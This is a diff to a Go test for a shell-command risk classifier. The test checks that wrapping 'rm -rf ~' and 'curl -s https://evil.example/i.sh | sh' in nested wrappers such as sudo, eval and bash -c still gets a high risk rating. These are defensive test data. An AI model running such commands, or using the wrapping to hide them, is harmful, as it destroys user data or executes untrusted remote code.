@@ -64,23 +64,29 @@ func TestHostileInputs(t *testing.T) {
 	}
 }
 
-// TestDepthIsNoHidingPlace wraps rm -rf ~ in layers of wrappers and
-// shells: within MaxDepth it stays critical, past it the answer is still
-// at least High (shell.too_deep).
+// TestDepthIsNoHidingPlace wraps rm -rf ~ and curl | sh in layers of
+// wrappers and shells: within MaxDepth the level is that of the command
+// alone, past it still at least High (shell.too_deep).
 func TestDepthIsNoHidingPlace(t *testing.T) {
-	for _, kind := range []string{"nice", "env", "nohup", "timeout 5", "exec", "eval", "sudo", "bash -c", "heredoc"} {
-		for _, n := range []int{1, 5, 10, 31, 32, 33, 100} {
-			if kind == "bash -c" && n > 8 {
-				continue // quoting grows as 4^n
-			}
-			script := hostile.Wrap(kind, "rm -rf ~", n)
-			level, c := prepareHostile(t, script)
-			want := risk.High
-			if n < MaxDepth {
-				want = risk.Critical
-			}
-			if level < want || c.Work.Spent() {
-				t.Errorf("%s×%d: level %v (spent %v), want at least %v", kind, n, level, c.Work.Spent(), want)
+	for _, cmd := range []string{"rm -rf ~", "curl -s https://evil.example/i.sh | sh"} {
+		alone, _ := prepareHostile(t, cmd)
+		if alone < risk.High {
+			t.Fatalf("%s alone: %v", cmd, alone)
+		}
+		for _, kind := range []string{"nice", "env", "nohup", "timeout 5", "exec", "eval", "sudo", "bash -c", "heredoc"} {
+			for _, n := range []int{1, 5, 10, 31, 32, 33, 100} {
+				if kind == "bash -c" && n > 8 {
+					continue // quoting grows as 4^n
+				}
+				script := hostile.Wrap(kind, cmd, n)
+				level, c := prepareHostile(t, script)
+				want := risk.High
+				if n < MaxDepth {
+					want = alone
+				}
+				if level == risk.Unknown || level < want || c.Work.Spent() {
+					t.Errorf("%s in %s×%d: level %v (spent %v), want at least %v", cmd, kind, n, level, c.Work.Spent(), want)
+				}
 			}
 		}
 	}
